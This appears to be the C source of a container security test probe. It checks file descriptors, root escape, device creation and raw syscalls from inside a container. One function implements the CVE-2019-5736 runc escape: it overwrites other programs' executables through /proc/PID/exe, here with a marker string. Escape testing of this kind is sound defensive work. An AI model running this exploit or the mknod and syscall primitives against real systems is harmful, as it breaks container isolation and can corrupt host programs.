/*
 * Looks at a container from inside, for the security tests. Static. `probe VERB ARGUMENT…` prints one line; `probe VERB … -- VERB …` does several.
 * Errors are printed as numbers: "errno 13".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <unistd.h>

static void result(int status)
{
	if (status < 0)
		printf("errno %d\n", errno);
	else
		printf("ok\n");
}

/* Descriptors that are open, apart from the one that lists them: "0:/dev/null 1:pipe:[7] …" */
static void list_fds(void)
{
	DIR *folder = opendir("/proc/self/fd");
	if (!folder) {
		result(-1);
		return;
	}
	for (struct dirent *entry; (entry = readdir(folder));) {
		char target[PATH_MAX];
		if (entry->d_name[0] == '.' || atoi(entry->d_name) == dirfd(folder))
			continue;
		ssize_t length = readlinkat(dirfd(folder), entry->d_name, target, sizeof target - 1);
		printf("%s:%.*s ", entry->d_name, length < 0 ? 1 : (int)length, length < 0 ? "?" : target);
	}
	printf("\n");
	closedir(folder);
}

/* Where we are, and whether going up from there ends at our root: "/app inside", "errno 2", "/x OUTSIDE" */
static void show_cwd(void)
{
	char path[PATH_MAX], up[3 * 64 + 1] = "";
	struct stat root, top;
	for (int i = 0; i < 64; i++)
		strcat(up, "../");
	if (!getcwd(path, sizeof path))
		snprintf(path, sizeof path, "errno %d", errno);
	bool same = stat("/", &root) == 0 && stat(up, &top) == 0 && root.st_dev == top.st_dev && root.st_ino == top.st_ino;
	printf("%s %s\n", path, same && path[0] == '/' ? "inside" : "OUTSIDE");
}

static void read_file(const char *path)
{
	char data[4096];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t length = fd < 0 ? -1 : read(fd, data, sizeof data);
	if (length < 0)
		printf("errno %d\n", errno);
	else
		printf("%zd bytes\n", length);
	if (fd >= 0)
		close(fd);
}

static void write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	result(fd < 0 || write(fd, text, strlen(text)) < 0 ? -1 : 0);
	if (fd >= 0)
		close(fd);
}

/* "c 1:3 666", "dir", "file", "link TARGET", with the magic number of the file system */
static void show_node(const char *path)
{
	struct stat node;
	struct statfs fs;
	char target[PATH_MAX] = "";
	if (lstat(path, &node) < 0) {
		result(-1);
		return;
	}
	if (statfs(path, &fs) < 0)
		memset(&fs, 0, sizeof fs);
	if (S_ISLNK(node.st_mode)) {
		ssize_t length = readlink(path, target, sizeof target - 1);
		printf("link %.*s\n", (int)(length < 0 ? 0 : length), target);
	} else if (S_ISCHR(node.st_mode)) {
		printf("c %u:%u %o %u:%u\n", major(node.st_rdev), minor(node.st_rdev), node.st_mode & 07777, node.st_uid, node.st_gid);
	} else {
		printf("%s %o fs=%lx\n", S_ISDIR(node.st_mode) ? "dir" : "file", node.st_mode & 07777, (unsigned long)fs.f_type);
	}
}

static void make_node(const char *path, const char *kind, const char *numbers)
{
	unsigned high = 0, low = 0;
	sscanf(numbers, "%u:%u", &high, &low);
	int status = mknod(path, (kind[0] == 'b' ? S_IFBLK : S_IFCHR) | 0666, makedev(high, low));
	int fd = status < 0 ? -1 : open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	if (status < 0 || fd < 0)
		printf("%s errno %d\n", status < 0 ? "mknod" : "open", errno);
	else
		printf("ok\n");
}

static void call(int count, char **words)
{
	static char page[4096];
	unsigned long a[7] = {0};
	for (int i = 0; i < count && i < 7; i++)
		a[i] = strcmp(words[i], "page") == 0 ? (unsigned long)page : strtoul(words[i], NULL, 0);
	pid_t child = fork();
	if (child == 0) {
		long value = syscall((long)a[0], a[1], a[2], a[3], a[4], a[5], a[6]);
		_exit(value == -1 ? errno : 0);
	}
	int status = 0;
	waitpid(child, &status, 0);
	if (WIFSIGNALED(status))
		printf("signal %d\n", WTERMSIG(status));
	else if (WEXITSTATUS(status))
		printf("errno %d\n", WEXITSTATUS(status));
	else
		printf("ok\n");
}

/*
 * CVE-2019-5736: until /tmp/stop is there, whenever a process of another program shows up, keep that program open through /proc/PID/exe and write to it as
 * soon as it no longer runs. Prints how many were seen, how many could be opened, and how many took the write.
 */
static void overwrite_programs(void)
{
	int seen = 0, caught = 0, written = 0;
	static char known[65536];
	struct stat own, tools, other;
	stat("/proc/self/exe", &own);
	stat("/bin/tug-demo", &tools);
	DIR *folder = opendir("/proc");
	while (folder && access("/tmp/stop", F_OK) != 0) {
		rewinddir(folder);
		for (struct dirent *entry; (entry = readdir(folder));) {
			char path[64];
			int pid = atoi(entry->d_name);
			if (pid <= 0 || pid >= (int)sizeof known || pid == getpid() || known[pid])
				continue;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			int program = open(path, O_PATH | O_CLOEXEC);
			if (program < 0) {
				seen += known[pid] != 1;
				continue;
			}
			if (fstat(program, &other) < 0 || (other.st_dev == own.st_dev && other.st_ino == own.st_ino)) {
				close(program);
				continue;
			}
			if (other.st_dev == tools.st_dev && other.st_ino == tools.st_ino) { /* of the container itself */
				known[pid] = 1;
				seen++;
				close(program);
				continue;
			}
			known[pid] = 1;
			seen++;
			caught++;
			snprintf(path, sizeof path, "/proc/self/fd/%d", program);
			for (int i = 0; i < 200; i++) {
				int fd = open(path, O_WRONLY | O_CLOEXEC);
				if (fd >= 0) {
					written += write(fd, "overwritten", 11) == 11;
					close(fd);
					break;
				}
				if (errno != ETXTBSY)
					break;
				usleep(500);
			}
			close(program);
		}
	}
	printf("seen %d caught %d written %d\n", seen, caught, written);
}

/* Numbers in /proc that name processes. */
static void list_processes(void)
{
	DIR *folder = opendir("/proc");
	for (struct dirent *entry; folder && (entry = readdir(folder));)
		if (atoi(entry->d_name) > 0)
			printf("%s ", entry->d_name);
	printf("\n");
	if (folder)
		closedir(folder);
}

static int probe(int count, char **words)
{
	const char *verb = words[0], *first = count > 1 ? words[1] : "", *second = count > 2 ? words[2] : "", *third = count > 3 ? words[3] : "";
	if (strcmp(verb, "fds") == 0)
		list_fds();
	else if (strcmp(verb, "cwd") == 0)
		show_cwd();
	else if (strcmp(verb, "read") == 0)
		read_file(first);
	else if (strcmp(verb, "write") == 0)
		write_file(first, second);
	else if (strcmp(verb, "node") == 0)
		show_node(first);
	else if (strcmp(verb, "mknod") == 0)
		make_node(first, second, third);
	else if (strcmp(verb, "mkdir") == 0)
		result(mkdir(first, 0755));
	else if (strcmp(verb, "call") == 0)
		call(count - 1, words + 1);
	else if (strcmp(verb, "overwrite") == 0)
		overwrite_programs();
	else if (strcmp(verb, "processes") == 0)
		list_processes();
	else if (strcmp(verb, "pause") == 0)
		sleep(1000);
	else
		return 2;
	fflush(stdout);
	return 0;
}

int main(int argc, char **argv)
{
	for (int start = 1; start < argc;) {
		int end = start;
		while (end < argc && strcmp(argv[end], "--") != 0)
			end++;
		if (probe(end - start, argv + start) != 0)
			return 2;
		start = end + 1;
	}
	return 0;
}
